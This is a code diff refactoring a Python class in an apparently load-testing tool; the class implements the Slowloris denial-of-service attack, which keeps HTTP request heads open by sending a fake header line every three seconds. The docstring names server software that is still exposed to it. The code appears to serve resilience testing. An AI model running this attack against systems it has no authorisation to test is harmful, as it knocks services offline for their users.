@@ -1,37 +1,32 @@
 """Slowloris, as published in 2009."""
 
+from typing import Final
+
 from loadgen import wire
-from loadgen.client import Attacker, Cohort
 from loadgen.personas import persona
+from loadgen.personas._drip import Dripper
 
 #: The original sends a line every 15 s; faster is harder on servers that judge by progress.
-LINE_EVERY_SECONDS = 3.0
+LINE_EVERY_SECONDS: Final = 3.0
 
 
 @persona
-class SlowHead(Attacker):
-    """Sends one request header line every few seconds, for ever (slowloris)."""
+class SlowHead(Dripper):
+    """Sends one request header line every few seconds, for ever (slowloris).
 
-    __slots__ = ("_lines",)
+    Each held one of Apache 2.2's processes. It still holds whatever restarts its timer at each line, or has none:
+    uvicorn, and Go's net/http without ReadHeaderTimeout.
+    """
+
+    __slots__ = ()
 
     name = "slow-head"
-
-    def __init__(self, cohort: Cohort, index: int) -> None:
-        super().__init__(cohort, index)
-        self._lines = 0
+    every_seconds = LINE_EVERY_SECONDS
 
     def opening(self) -> bytes:
         """Begin a request and leave its head open."""
-        return wire.request("GET", "/", self.cohort.place.host)[:-2]
+        return wire.request("GET", self.cohort.place.path, self.cohort.place.host)[:-2]
 
-    def on_connected(self) -> None:
-        """Wait for the first line's moment."""
-        super().on_connected()
-        self._lines = 0
-        self.wake_in(self.pace(LINE_EVERY_SECONDS))
-
-    def on_time(self, moment: float) -> None:
-        """Add a line."""
-        self._lines += 1
-        self.wake_in(self.pace(LINE_EVERY_SECONDS))
-        self.send(b"X-Line-%d: %d\r\n" % (self._lines, self._lines))
+    def drop(self, number: int) -> bytes:
+        """Return a line."""
+        return b"X-Line-%d: %d\r\n" % (number, number)
